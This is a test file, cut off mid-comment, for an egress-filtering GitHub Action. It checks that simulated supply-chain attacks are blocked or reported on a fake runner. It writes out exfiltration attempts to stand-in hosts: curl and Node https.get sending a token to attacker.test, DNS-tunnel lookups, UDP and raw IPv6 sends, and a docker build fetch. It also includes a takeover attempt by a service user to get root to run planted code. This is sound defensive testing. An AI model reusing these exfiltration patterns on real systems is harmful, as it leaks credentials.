/**
 * The GitHub Action end to end, on a simulated GitHub-hosted runner (github-runner.ts) in the World's runner
 * namespace, linked only to the World's fake internet: action-dist/main.js as `runner`, job steps as `runner`,
 * then action-dist/post.js. The internet's own log is the judge of what got out.
 */
import assert from 'node:assert/strict';
import { spawn, type ChildProcess } from 'node:child_process';
import { chownSync, existsSync, mkdirSync, readFileSync, readlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { fileURLToPath } from 'node:url';
import { after, before, describe, it } from 'node:test';
import { EGRESS_BIN, NET, World, type InternetLogEntry } from './harness.js';
import { renderSummaryInChromium } from './summary-in-chromium.js';
import { waitFor } from '../helpers/wait-for.js';
import type { CommandResult } from './netns.js';
import { DOCKER_BRIDGE_ADDRESS, DOCKER_SOCKET, parseCommandFile, RESOLVED_STUB, SimulatedRunner, TOOLS_IMAGE, type Job } from './github-runner.js';

const ALLOWED = 'allowed.test:443\nregistry.test:443';
/** The documentation ranges are not public unicast: trusted, as a user trusts a private registry. */
const TRUSTED = '203.0.113.0/24 2001:db8::/32';
const SECRET = 'c2VjcmV0LXRva2Vu';

type StepName = 'allowed' | 'attackerName' | 'rawIp' | 'preinstall' | 'dnsViaResolver' | 'dnsDirect' | 'udp';
type StepResults = Record<StepName, CommandResult>;
/** Runs one command where the steps run: as `runner` on the host, or in a container. */
type Executor = (command: string, args: readonly string[], env?: NodeJS.ProcessEnv) => Promise<CommandResult>;

/** The job's steps: an allowed download, then what a compromised dependency tries. */
async function jobSteps(exec: Executor, world: World): Promise<StepResults> {
  const curl = (url: string, ...extra: string[]) => exec('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, ...extra, url]);
  const preinstall = `require('https').get({ host: 'attacker.test', path: '/steal?token=${SECRET}', ca: require('fs').readFileSync(process.env.CA) }, (r) => { r.resume(); r.on('end', () => console.log('sent', r.statusCode)); }).on('error', (e) => { console.log('refused', e.code); process.exitCode = 1; }).setTimeout(8000, function () { this.destroy(new Error('timeout')); });`;
  return {
    allowed: await curl('https://allowed.test/'),
    attackerName: await curl(`https://attacker.test/upload?token=${SECRET}`),
    rawIp: await curl(`https://${NET.rawOnly}/raw?token=${SECRET}`, '-k'),
    preinstall: await exec(process.execPath, ['-e', preinstall], { CA: world.caFile }),
    dnsViaResolver: await exec('dig', ['+tries=1', '+time=3', `${SECRET}.exfil.attacker.test`]),
    dnsDirect: await exec('dig', ['+tries=1', '+time=3', `@${NET.dns}`, `${SECRET}.direct.attacker.test`]),
    udp: await udpDatagram(exec),
  };
}

/**
 * UDP but DNS (QUIC-like) is not proxied: the rules refuse it in block mode, and the built-in NFLOG reader makes it
 * an event (the simulated runner has ulogd installed; the action prefers its own reader, as on GitHub's images).
 */
function udpDatagram(exec: Executor): Promise<CommandResult> {
  return exec(process.execPath, ['-e', `const s = require('dgram').createSocket('udp4'); s.send('${SECRET}', 9999, '${NET.attacker}', () => setTimeout(() => s.close(), 300));`]);
}

/** As `runner`, in the job's environment. */
function asJobStep(runner: SimulatedRunner, job: Job): Executor {
  return (command, args, env = {}) => runner.step(command, args, { env: { ...job.env, ...env } });
}

/** The job's `docker` CLI (as `runner`, through the docker group), on the runner's engine, legacy builder. */
function dockerCli(runner: SimulatedRunner, job: Job): (args: readonly string[]) => Promise<CommandResult> {
  return (args) => runner.step('docker', args, { env: { ...job.env, DOCKER_HOST: `unix://${DOCKER_SOCKET}`, DOCKER_BUILDKIT: '0' }, timeoutMs: 60_000 });
}

function envFlags(env: NodeJS.ProcessEnv): string[] {
  return Object.entries(env).flatMap(([k, v]) => ['-e', `${k}=${v}`]);
}

/** A step in a fresh container (`docker run --rm`) on `network`, with the test CA mounted where the steps expect it. */
function containerExecutor(docker: ReturnType<typeof dockerCli>, world: World, network: string): Executor {
  return (command, args, env = {}) => docker(['run', '--rm', '--network', network, '-v', `${world.caFile}:${world.caFile}:ro`, ...envFlags(env), TOOLS_IMAGE, command, ...args]);
}

/** Block mode: the allowed download works, every attack fails. */
function assertAttacksRefused(steps: StepResults, where: string): void {
  assert.equal(steps.allowed.code, 0, `${where}: ${steps.allowed.stderr}`);
  assert.match(steps.allowed.stdout, /hello from allowed\.test/);
  assert.notEqual(steps.attackerName.code, 0, `${where}: curl to attacker.test succeeded`);
  assert.notEqual(steps.rawIp.code, 0, `${where}: curl to a raw IP succeeded`);
  assert.notEqual(steps.preinstall.code, 0, `${where}: preinstall https.get got through: ${steps.preinstall.stdout}`);
  assert.doesNotMatch(steps.dnsViaResolver.stdout, /status: NOERROR/, where);
  assert.doesNotMatch(steps.dnsDirect.stdout, /status: NOERROR/, where);
}

function internetSince(world: World, since: number): InternetLogEntry[] {
  return world.internetLog().filter((e) => e.time >= since);
}

function leaked(entries: readonly InternetLogEntry[]): InternetLogEntry[] {
  return entries.filter((e) => JSON.stringify(e).includes(SECRET) || e.host === 'attacker.test' || e.local === NET.rawOnly || e.local === `::ffff:${NET.rawOnly}`);
}

function escapeRegExp(text: string): string {
  return text.replace(/[.*+?^${}()|[\]\\]/g, '\\$&');
}

/** An annotation line as the toolkit writes it (`:` in the title is escaped as %3A); `destination` is a pattern. */
function annotation(level: 'error' | 'warning', outcome: 'blocked' | 'would-block', destination: string): RegExp {
  return new RegExp(`^::${level} title=egress-guard ${outcome}%3A ${destination.replace(/:/g, '%3A')}::`, 'm');
}

const COLLECTOR_TOKEN = 'e2e-collector-token';
/** Made only if root ran code the egress-guard user put in place (/run is the simulated runner's own tmpfs). */
const TAKEOVER_MARK = '/run/egress-guard-takeover';
/** A Docker network the job creates after main: a new br-* bridge (documentation addresses, not Docker's pools). */
const LATER_NETWORK = '203.0.113.160/27';
/** A Docker network with IPv6 the job creates (`docker network create --ipv6`): global documentation addresses. */
const IPV6_NETWORK = { v4: '203.0.113.192/27', v6: '2001:db8:d0::/64' };
/** The same in the audit job: its own prefixes (the block job's bridge outlives its engine in the shared namespace). */
const AUDIT_IPV6_NETWORK = { v4: '203.0.113.128/27', v6: '2001:db8:d1::/64' };
/** Where the screenshot of the rendered summary goes (test-artifacts/ at the checkout, as the collector page's). */
const ARTIFACTS = fileURLToPath(new URL('../../../test-artifacts', import.meta.url));

/** A self-hosted collector on a host of the internet (egress-guard's own traffic is exempt from the rules). */
async function startCollector(world: World): Promise<{ url: string; child: ChildProcess }> {
  const url = `http://${NET.allowed}:9440`;
  const child = spawn(
    'ip',
    [
      'netns',
      'exec',
      world.internetNs,
      process.execPath,
      EGRESS_BIN,
      'collector',
      '--listen',
      `${NET.allowed}:9440`,
      '--db',
      path.join(world.dir, 'collector.db'),
      '--token',
      COLLECTOR_TOKEN,
    ],
    { stdio: 'ignore' },
  );
  const deadline = Date.now() + 15_000;
  while ((await world.fromInternet('curl', ['-sf', '--max-time', '2', `${url}/healthz`])).code !== 0) {
    if (Date.now() > deadline || child.exitCode !== null) {
      child.kill('SIGKILL');
      throw new Error('the collector did not start');
    }
    await new Promise((r) => setTimeout(r, 200));
  }
  return { url, child };
}

/** The egress-guard process main started: the one listening on the transparent port. */
async function egressGuardPid(runner: SimulatedRunner): Promise<number> {
  const listener = await runner.asRoot('ss', ['-Hltnp', 'sport = :3129']);
  const pid = Number(/pid=(\d+)/.exec(listener.stdout)?.[1]);
  assert.ok(pid > 0, `no transparent listener: ${listener.stdout}`);
  return pid;
}

/**
 * egress-guard dies during the job (SIGKILL, found by its transparent listener), then waits (bounded) for the process
 * main started (sidecarPid: sudo, or the audit supervisor) to end; fails with `why` if it does not.
 */
async function killEgressGuard(runner: SimulatedRunner, job: Job, why: string): Promise<void> {
  const pid = await egressGuardPid(runner);
  process.kill(pid, 'SIGKILL');
  const started = (JSON.parse(parseCommandFile(readFileSync(job.files.state, 'utf8')).get('egress-guard')!) as { sidecarPid: number }).sidecarPid;
  const deadline = Date.now() + 10_000;
  while (existsSync(`/proc/${started}`) && Date.now() < deadline) await new Promise((r) => setTimeout(r, 100));
  assert.ok(!existsSync(`/proc/${started}`), why);
}

function outputs(job: Job): Map<string, string> {
  return parseCommandFile(readFileSync(job.files.output, 'utf8'));
}

describe('GitHub Action on a simulated GitHub-hosted runner', { timeout: 600_000 }, () => {
  let world: World;
  before(async () => {
    world = await World.create({ prefix: 'egact', sidecarUser: false, resolvConf: `nameserver ${NET.dns}\noptions attempts:1 timeout:2\n` });
    // As on a GitHub runner (the World lowers it for its own sidecar): binding port 53 takes CAP_NET_BIND_SERVICE.
    const sysctl = await world.job('sysctl', ['-q', '-w', 'net.ipv4.ip_unprivileged_port_start=1024']);
    assert.equal(sysctl.code, 0, sysctl.stderr);
  });
  after(async () => {
    await world?.close();
  });

  it('block mode (ubuntu-like systemd-resolved stub): nothing of the attack reaches the internet, the allowed host works, post fails the step (fail-on-block) and reports', async () => {
    const runner = await SimulatedRunner.start(world, 'block', NET.dns, 'systemd-resolved');
    const collector = await startCollector(world);
    try {
      // Running before main, as Docker runs when a GitHub job starts.
      await runner.startDockerd(NET.dns);
      await runner.importToolsImage();
      // A service container: started before the action's main, as GitHub starts them before the first step.
      const service = await runner.asRoot('docker', [
        '-H',
        `unix://${DOCKER_SOCKET}`,
        'run',
        '-d',
        '--name',
        'egact-service',
        '-v',
        `${world.caFile}:${world.caFile}:ro`,
        TOOLS_IMAGE,
        process.execPath,
        '-e',
        'setInterval(() => {}, 1000)',
      ]);
      assert.equal(service.code, 0, service.stderr);
      const job = runner.newJob('block', {
        'egress-policy': 'block',
        'allowed-endpoints': ALLOWED,
        'trusted-ranges': TRUSTED,
        'fail-on-block': 'true',
        'collector-url': collector.url,
        'collector-token': COLLECTOR_TOKEN,
      });
      const main = await runner.runAction(job, 'main');
      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
      assert.doesNotMatch(main.stdout, /^::error/m);
      assert.match(main.stdout, /created system user egress-guard/);
      // Upstream from resolved's list (its stub 127.0.0.53 is loopback), and the symlink replaced by a file.
      assert.match(main.stdout, new RegExp(`upstream DNS ${escapeRegExp(NET.dns)},`));
      assert.match(main.stdout, new RegExp(`resolv\\.conf \\(was a symlink to ${escapeRegExp(RESOLVED_STUB)}\\) now names egress-guard`));
      assert.equal(outputs(job).get('events-file'), '/var/lib/egress-guard/events.ndjson');
      assert.match(
        main.stdout,
        /containers on docker0, br-\+ redirected too \(IPv4 and IPv6; forwarded traffic filtered first in DOCKER-USER \(made in ip6tables, where Docker had not made it yet\); connections between containers told by their route/,
      );
      assert.match(main.stdout, /packets the rules refuse or report are read by its built-in NFLOG reader/);
      // main ran on the runner's Node 24 (action.yml: using: node24) and copied that binary, which egress-guard runs
      // on: its process's executable is main's copy, and it is Node 24, not the node running this test (20 here).
      const sidecarExe = readlinkSync(`/proc/${await egressGuardPid(runner)}/exe`);
      assert.equal(sidecarExe, '/var/lib/egress-guard/app/node');
      const sidecarNode = await runner.asRoot(sidecarExe, ['--version']);
      assert.match(sidecarNode.stdout, /^v24\./, `egress-guard runs on node ${sidecarNode.stdout.trim()} ${sidecarNode.stderr}`);
      const since = Date.now();
      assertAttacksRefused(await jobSteps(asJobStep(runner, job), world), 'job step');
      // The same from containers the job starts: `docker run` on the default bridge, on a network made now (a new
      // br-* bridge), and a `docker build` step. Redirected from PREROUTING, the rest refused in DOCKER-USER.
      const docker = dockerCli(runner, job);
      const inContainer = (network: string) => containerExecutor(docker, world, network);
      assertAttacksRefused(await jobSteps(inContainer('bridge'), world), 'docker run');
      const inService: Executor = (command, args, env = {}) => docker(['exec', ...envFlags(env), 'egact-service', command, ...args]);
      assertAttacksRefused(await jobSteps(inService, world), 'service container started before main');
      // A container reaches the service container on the bridge, past egress-guard: the route lookup (nftables,
      // rules/bridge-routes.ts) says the connection stays on the bridge. These bridges have documentation addresses,
      // not private ones: until 2026-12-02 such a connection was redirected and refused as a raw-address connect.
      const serviceAddress = (await docker(['inspect', '-f', '{{.NetworkSettings.IPAddress}}', 'egact-service'])).stdout.trim();
      const http = `require('node:http').createServer((q, r) => r.end('from the service')).listen(8090); setTimeout(() => process.exit(0), 60000);`;
      const serving = await docker(['exec', '-d', 'egact-service', process.execPath, '-e', http]);
      assert.equal(serving.code, 0, serving.stderr);
      const reached = await inContainer('bridge')('curl', [
        '-sS',
        '--max-time',
        '8',
        '--retry',
        '5',
        '--retry-connrefused',
        '--retry-delay',
        '1',
        `http://${serviceAddress}:8090/`,
      ]);
      assert.equal(reached.stdout, 'from the service', `a container did not reach the service container at ${serviceAddress}: ${reached.stderr}`);
      const network = await docker(['network', 'create', '--subnet', LATER_NETWORK, 'egact-later']);
      assert.equal(network.code, 0, network.stderr);
      assertAttacksRefused(await jobSteps(inContainer('egact-later'), world), 'docker run on a network created after main');
      // Docker's own IPv6 network (`docker network create --ipv6`, global documentation addresses; the engine runs
      // with --ip6tables=false, as Docker before 27 did by default): the container's IPv6 goes through the rules too.
      const v6 = await docker(['network', 'create', '--ipv6', '--subnet', IPV6_NETWORK.v4, '--subnet', IPV6_NETWORK.v6, 'egact-v6']);
      assert.equal(v6.code, 0, v6.stderr);
      const inV6 = inContainer('egact-v6');
      const allowed6 = await inV6('curl', [
        '-6',
        '-sS',
        '--max-time',
        '20',
        '--retry',
        '8',
        '--retry-delay',
        '1',
        '--retry-all-errors',
        '--cacert',
        world.caFile,
        'https://allowed.test/',
      ]);
      assert.match(allowed6.stdout, /hello from allowed\.test/, `IPv6 container: ${allowed6.stderr}`);
      const raw6 = await inV6(process.execPath, [
        '-e',
        `const s = require('node:net').connect(9419, '${NET.attacker6}'); s.on('error', () => {}); s.end('${SECRET}'); setTimeout(() => process.exit(0), 3000);`,
      ]);
      const udp6 = await inV6(process.execPath, [
        '-e',
        `const s = require('dgram').createSocket('udp6'); s.send('${SECRET}', 9999, '${NET.attacker6}', () => setTimeout(() => s.close(), 300));`,
      ]);
      assert.equal(udp6.code, 0, udp6.stderr);
      // Judged by the internet side's log (leaked, below) and the event, not by how the client saw its end.
      void raw6;
      const build = (url: string) => {
        const context = path.join(job.dir, `build-${url.length}`);
        mkdirSync(context, { recursive: true });
        writeFileSync(path.join(context, 'Dockerfile'), `FROM ${TOOLS_IMAGE}\nRUN ["/usr/bin/curl", "-sS", "--max-time", "8", "-k", "${url}"]\n`);
        return docker(['build', '--no-cache', '-q', context]);
      };
      const allowedBuild = await build('https://allowed.test/');
      assert.equal(allowedBuild.code, 0, `docker build fetching the allowed host failed: ${allowedBuild.stderr}`);
      assert.notEqual((await build(`https://attacker.test/build?token=${SECRET}`)).code, 0, 'docker build reached attacker.test');
      const eventLines = (await runner.asRoot('cat', ['/var/lib/egress-guard/events.ndjson'])).stdout;
      for (const [subnet, what] of [
        [DOCKER_BRIDGE_ADDRESS, 'the default bridge'],
        [LATER_NETWORK, 'the network created after main'],
      ] as const) {
        const prefix = escapeRegExp(subnet.slice(0, subnet.lastIndexOf('.') + 1));
        assert.match(eventLines, new RegExp(`"client":"${prefix}\\d+:\\d+","host":"attacker\\.test"[^\\n]*"decision":"blocked"`), `no blocked event from ${what}`);
        assert.match(eventLines, new RegExp(`"client":"${prefix}\\d+:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), `no allowed event from ${what}`);
      }
      assert.doesNotMatch(eventLines, new RegExp(`"host":"${escapeRegExp(serviceAddress)}"`), 'the connection between containers went through egress-guard');
      const v6Client = escapeRegExp(`"client":"[${IPV6_NETWORK.v6.replace(/::\/64$/, '::')}`);
      assert.match(eventLines, new RegExp(`${v6Client}[0-9a-f:]*\\]:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), 'no allowed event from the IPv6 network');
      assert.match(
        eventLines,
        new RegExp(`${v6Client}[0-9a-f:]*\\]:\\d+","host":"${escapeRegExp(NET.attacker6)}","port":9419[^\\n]*"decision":"blocked"`),
        'no blocked event for the raw IPv6 connect',
      );
      const seen = internetSince(world, since);
      assert.deepEqual(leaked(seen), [], 'something of the attack reached the internet');
      assert.ok(
        seen.some((e) => e.type === 'http' && e.host === 'allowed.test'),
        'the allowed request did not arrive',
      );

      const post = await runner.runAction(job, 'post');
      assert.notEqual(post.code, 0, `post passed despite fail-on-block:\n${post.stdout}`);
      // post sends SIGTERM; the reader ends within its read's wait.
      await waitFor('post to stop the NFLOG reader', async () => (await runner.asRoot('pgrep', ['-f', 'egress-guard.js rules log-reader'])).code === 1, 5_000);
      assert.match(post.stdout, /^::error::egress-guard: \d+ destination\(s\) blocked, and fail-on-block is set: .*attacker\.test:53/m);
      // The name is refused at the lookup (dns-policy), so curl and https.get never connect: the DNS rows.
      assert.match(post.stdout, annotation('error', 'blocked', 'attacker\\.test:53'));
      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.rawOnly)}:443`));
      assert.match(post.stdout, annotation('error', 'blocked', `${SECRET.toLowerCase()}\\.exfil\\.attacker\\.test:53`));
      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), 'no event for the UDP datagram (the built-in NFLOG reader)');
      assert.match(post.stdout, annotation('error', 'blocked', `\\[${escapeRegExp(NET.attacker6)}\\]:9999`), "no event for the IPv6 container's datagram");
      assert.doesNotMatch(post.stdout, /^::(error|warning) title=egress-guard [a-z-]+%3A allowed\.test/m);
      assert.doesNotMatch(post.stdout, /exited during the job/, 'egress-guard ran to the end');
      const blockedCount = Number(outputs(job).get('blocked-count'));
      assert.ok(blockedCount >= 3, `blocked-count ${blockedCount}`);
      const summary = readFileSync(job.files.summary, 'utf8');
      assert.match(summary, /\| ⛔ blocked \| `attacker\.test:53` \|/);
      assert.match(summary, /<details><summary>Suggested policy/);
      const rendered = await renderSummaryInChromium(summary, path.join(ARTIFACTS, 'action-summary-block.png'));
      assert.ok(rendered.decisions.length >= 5, `table rows: ${rendered.decisions.join(' / ')}`);
      const firstAllowed = rendered.decisions.findIndex((d) => d.includes('allowed'));
      assert.ok(rendered.decisions.slice(0, Math.max(firstAllowed, 0)).every((d) => d.includes('blocked')) && firstAllowed >= 3, rendered.decisions.join(' / '));
      assert.ok(rendered.policyHiddenAtFirst && rendered.policyShownAfterClick, 'the suggested policy is not a collapsed block');
      assert.match(rendered.policyText, /mode: block/);
      assert.ok(rendered.screenshotBytes > 10_000, 'the screenshot is (nearly) empty');
      // post undid main: no rules, egress-guard stopped, resolv.conf back.
      for (const table of ['nat', 'filter']) assert.doesNotMatch((await runner.asRoot('iptables', ['-t', table, '-S'])).stdout, /EGRESS_GUARD/, `rules left in ${table}`);
      assert.equal((await runner.asRoot('readlink', ['/etc/resolv.conf'])).stdout.trim(), RESOLVED_STUB);
      assert.doesNotMatch((await runner.asRoot('ss', ['-Hltn', 'sport = :3129'])).stdout, /3129/);
      // Streamed to the collector, under the job GitHub's variables name.
      const stored = await world.fromInternet('curl', ['-sS', '--max-time', '5', `${collector.url}/api/v1/jobs/${encodeURIComponent('octo-org/webapp/4242/block')}/events`]);
      const events = (JSON.parse(stored.stdout) as { events?: Array<{ event: string; host: string; decision?: string }> }).events ?? [];
      assert.ok(
        events.some((e) => e.event === 'decision' && e.host === 'attacker.test' && e.decision === 'blocked'),
        `the collector has no blocked attacker.test: ${stored.stdout.slice(0, 500)}`,
      );
    } finally {
      collector.child.kill('SIGTERM');
      await runner.stop();
    }
  });

  it('audit mode: every step works, each attack is a would-block warning and a summary row; egress-guard dying breaks nothing; post passes', async () => {
    const runner = await SimulatedRunner.start(world, 'audit', NET.dns);
    try {
      await runner.startDockerd(NET.dns);
      await runner.importToolsImage();
      const job = runner.newJob('audit', { 'egress-policy': 'audit', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
      const main = await runner.runAction(job, 'main');
      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
      const since = Date.now();
      for (const [where, exec] of [
        ['job step', asJobStep(runner, job)],
        ['docker run', containerExecutor(dockerCli(runner, job), world, 'bridge')],
      ] as const) {
        const steps = await jobSteps(exec, world);
        for (const [name, result] of Object.entries(steps)) assert.equal(result.code, 0, `${where}: ${name} broke in audit mode: ${result.stdout}${result.stderr}`);
        assert.match(steps.attackerName.stdout, /hello from attacker\.test/);
        assert.match(steps.dnsViaResolver.stdout, /status: NOERROR/);
      }
      // A network with IPv6 made after main (another prefix than the block job's: its bridge stays in the namespace).
      const docker = dockerCli(runner, job);
      const v6 = await docker(['network', 'create', '--ipv6', '--subnet', AUDIT_IPV6_NETWORK.v4, '--subnet', AUDIT_IPV6_NETWORK.v6, 'egact-v6']);
      assert.equal(v6.code, 0, v6.stderr);
      const inV6 = containerExecutor(docker, world, 'egact-v6');
      const allowed6 = await inV6('curl', ['-6', '-sS', '--max-time', '8', '--cacert', world.caFile, 'https://allowed.test/']);
      assert.match(allowed6.stdout, /hello from allowed\.test/, `IPv6 container: ${allowed6.stderr}`);
      const udp6 = await inV6(process.execPath, [
        '-e',
        `const s = require('dgram').createSocket('udp6'); s.send('audit6-${SECRET}', 9999, '${NET.attacker6}', () => setTimeout(() => s.close(), 300));`,
      ]);
      assert.equal(udp6.code, 0, `audit mode broke an IPv6 datagram: ${udp6.stderr}`);
      const containerPrefix = escapeRegExp(DOCKER_BRIDGE_ADDRESS.slice(0, DOCKER_BRIDGE_ADDRESS.lastIndexOf('.') + 1));
      const eventLines = (await runner.asRoot('cat', ['/var/lib/egress-guard/events.ndjson'])).stdout;
      const v6Client = escapeRegExp(`"client":"[${AUDIT_IPV6_NETWORK.v6.replace(/::\/64$/, '::')}`);
      assert.match(eventLines, new RegExp(`${v6Client}[0-9a-f:]*\\]:\\d+","host":"allowed\\.test"[^\\n]*"decision":"allowed"`), 'no allowed event from the IPv6 network');
      assert.match(
        eventLines,
        new RegExp(`"client":"${containerPrefix}\\d+:\\d+","host":"attacker\\.test"[^\\n]*"decision":"would-block"`),
        'no would-block event from the container',
      );

      // A compromised egress-guard (its own user) cannot get root to run its code: root runs app/ (the audit
      // supervisor's teardown, post) from a directory that user cannot change.
      const takeover = await runner.asRoot('runuser', [
        '-u',
        'egress-guard',
        '--',
        'sh',
        '-c',
        `cd /var/lib/egress-guard && mv app app.moved && mkdir app && ln -s ../app.moved/node app/node && echo 'require("fs").writeFileSync("${TAKEOVER_MARK}", "root ran it")' > app/teardown.js`,
      ]);
      assert.notEqual(takeover.code, 0, 'the egress-guard user replaced the app root runs');
      const stateDir = await runner.asRoot('stat', ['-c', '%U %a', '/var/lib/egress-guard', '/var/lib/egress-guard/netlog']);
      assert.equal(stateDir.stdout, 'root 755\nroot 755\n');

      // egress-guard dies (SIGKILL): audit mode must not break the rest of the job.
      // The supervisor (main's detached process) removes the rules, puts resolv.conf back and exits.
      await killEgressGuard(runner, job, 'the audit supervisor did not finish after egress-guard died');
      assert.doesNotMatch((await runner.asRoot('iptables', ['-t', 'nat', '-S'])).stdout, /EGRESS_GUARD/, 'the rules outlived egress-guard in audit mode');
      assert.notEqual((await runner.asRoot('test', ['-e', TAKEOVER_MARK])).code, 0, "root ran the egress-guard user's code");
      const afterCrash = await runner.step('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, 'https://allowed.test/'], { env: job.env });
      assert.equal(afterCrash.code, 0, `the job broke when egress-guard died in audit mode: ${afterCrash.stderr}`);

      const post = await runner.runAction(job, 'post');
      assert.equal(post.code, 0, `post failed in audit mode:\n${post.stdout}`);
      // The report ends where egress-guard's events end: post says so, in the log and first in the summary.
      assert.match(post.stdout, /^::warning title=egress-guard exited during the job::egress-guard exited during the job .*audit mode removed the redirect rules/m);
      assert.ok(
        internetSince(world, since).some((e) => e.type === 'udp' && e.port === 9999),
        'the UDP datagram did not arrive in audit mode',
      );
      assert.ok(
        internetSince(world, since).some((e) => e.type === 'udp' && String(e.data).includes(`audit6-${SECRET}`)),
        "the IPv6 container's datagram did not arrive in audit mode",
      );
      assert.match(post.stdout, annotation('warning', 'would-block', `\\[${escapeRegExp(NET.attacker6)}\\]:9999`), "no event for the IPv6 container's datagram");
      for (const destination of [
        'attacker.test:443',
        `${NET.rawOnly}:443`,
        `${NET.attacker}:9999`,
        `${SECRET.toLowerCase()}.exfil.attacker.test:53`,
        `${SECRET.toLowerCase()}.direct.attacker.test:53`,
      ]) {
        assert.match(post.stdout, annotation('warning', 'would-block', escapeRegExp(destination)));
      }
      assert.doesNotMatch(post.stdout, /^::error/m);
      const summary = readFileSync(job.files.summary, 'utf8');
      assert.match(summary, /^> \[!WARNING\]\n> egress-guard exited during the job/);
      assert.match(summary, /\| ⚠️ would-block \| `attacker\.test:443` \|/);
      assert.match(summary, /\| ✅ allowed \| `allowed\.test:443` \|/);
      assert.ok(summary.indexOf('⚠️ would-block |') < summary.indexOf('✅ allowed |'), 'would-block rows come first');
      assert.ok(Number(outputs(job).get('blocked-count')) >= 3);
    } finally {
      await runner.stop();
    }
  });

  it('audit mode with fail-on-block: the job runs through, post fails the step naming what would have been blocked', async () => {
    const runner = await SimulatedRunner.start(world, 'auditfail', NET.dns);
    try {
      const job = runner.newJob('auditfail', { 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED, 'fail-on-block': 'true' });
      const main = await runner.runAction(job, 'main');
      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
      assert.match(main.stdout, /egress-guard: audit mode/, 'no egress-policy input and no policy file: audit');
      const attack = await runner.step('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, 'https://attacker.test/'], { env: job.env });
      assert.equal(attack.code, 0, `audit mode broke the step: ${attack.stderr}`);
      const post = await runner.runAction(job, 'post');
      assert.notEqual(post.code, 0, `post passed despite fail-on-block:\n${post.stdout}`);
      assert.match(post.stdout, /^::error::egress-guard: \d+ destination\(s\) would be blocked in block mode \(audit mode\), and fail-on-block is set: .*attacker\.test:443/m);
      assert.match(post.stdout, annotation('warning', 'would-block', 'attacker\\.test:443'));
    } finally {
      await runner.stop();
    }
  });

  it('block mode, Docker started after main: a container is still filtered first (its datagram refused and reported, its TCP decided)', async () => {
    // Docker inserts its own FORWARD rules at the top when it starts (accepting what leaves a bridge) and keeps only
    // DOCKER-USER ahead of them. Until 2026-12-02 main hooked the rules for containers into FORWARD where Docker had
    // not made DOCKER-USER yet, so a Docker started later put its accepts above them: a container's UDP left
    // unrefused and unreported in block mode.
    const runner = await SimulatedRunner.start(world, 'latedocker', NET.dns);
    try {
      const job = runner.newJob('latedocker', { 'egress-policy': 'block', 'allowed-endpoints': ALLOWED, 'trusted-ranges': TRUSTED });
      const main = await runner.runAction(job, 'main');
      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
      await runner.startDockerd(NET.dns);
      await runner.importToolsImage();
      const since = Date.now();
      const inContainer = containerExecutor(dockerCli(runner, job), world, 'bridge');
      const udp = await udpDatagram(inContainer);
      assert.equal(udp.code, 0, udp.stderr);
      const attacker = await inContainer('curl', ['-sS', '--max-time', '8', '--cacert', world.caFile, `https://attacker.test/late?token=${SECRET}`]);
      assert.notEqual(attacker.code, 0, 'a container reached attacker.test');
      await new Promise((r) => setTimeout(r, 500));
      assert.deepEqual(
        internetSince(world, since).filter((e) => e.type === 'udp' || JSON.stringify(e).includes(SECRET)),
        [],
        "the container's datagram (or request) reached the internet",
      );
      const post = await runner.runAction(job, 'post');
      assert.match(post.stdout, annotation('error', 'blocked', `${escapeRegExp(NET.attacker)}:9999`), `no event for the container's datagram:\n${post.stdout}`);
    } finally {
      await runner.stop();
    }
  });

  it('disable-sudo (policy from policy-file): afterwards sudo iptables -F and docker run --net host fail for the job; post still reports', async () => {
    const runner = await SimulatedRunner.start(world, 'nosudo', NET.dns);
    try {
      await runner.startDockerd(NET.dns);
      // The policy from a file in the repository, readable by the runner user only: main copies it for egress-guard.
      const job = runner.newJob('nosudo', { 'policy-file': '.github/egress-policy.yaml', 'disable-sudo': 'true' });
      const policyFile = path.join(job.env.GITHUB_WORKSPACE!, '.github/egress-policy.yaml');
      mkdirSync(path.dirname(policyFile), { recursive: true });
      const trusted = TRUSTED.split(' ').map((range) => `  - ${range}\n`);
      writeFileSync(policyFile, `mode: block\nallowed-endpoints: >\n  ${ALLOWED.replace('\n', '\n  ')}\ntrusted-ranges:\n${trusted.join('')}`, { mode: 0o600 });
      chownSync(policyFile, runner.user.uid, runner.user.gid);
      // What CVE-2025-32955 used: a container in the host's network namespace, privileged, undoes any rule. This
      // machine cannot start privileged containers at all (its own capabilities are bounded), so the check is that
      // the job can no longer start one in the host's network namespace.
      const docker = () =>
        runner.step('docker', ['-H', `unix://${DOCKER_SOCKET}`, 'run', '--rm', '--net', 'host', TOOLS_IMAGE, '/usr/bin/curl', '--version'], {
          env: job.env,
          timeoutMs: 60_000,
        });
      const sudoBefore = await runner.step('sudo', ['-n', 'true'], { env: job.env });
      assert.equal(sudoBefore.code, 0, `runner has no sudo to begin with: ${sudoBefore.stderr}`);
      await runner.importToolsImage();
      const before = await docker();
      assert.equal(before.code, 0, `runner cannot docker run --net host to begin with: ${before.stderr}`);

      const main = await runner.runAction(job, 'main');
      assert.equal(main.code, 0, `main failed:\n${main.stdout}\n${main.stderr}`);
      assert.match(main.stdout, /egress-guard: block mode/);
      assert.match(main.stdout, /disable-sudo: sudo denied to runner/);
      const flush = await runner.step('sudo', ['-n', 'iptables', '-F'], { env: job.env });
      assert.notEqual(flush.code, 0, 'sudo iptables -F still works');
      assert.match((await runner.asRoot('iptables', ['-S'])).stdout, /EGRESS_GUARD_FILTER/);
      const socket = await docker();
      assert.notEqual(socket.code, 0, 'docker run --net host still works for the job');
      assert.match(socket.stderr, /permission denied/i);
      const attack = await runner.step('curl', ['-sS', '--max-time', '5', '--cacert', world.caFile, 'https://attacker.test/'], { env: job.env });
      assert.notEqual(attack.code, 0);

      // egress-guard dies during the job (a crash on what the job sent): post cannot stop anything without sudo, but
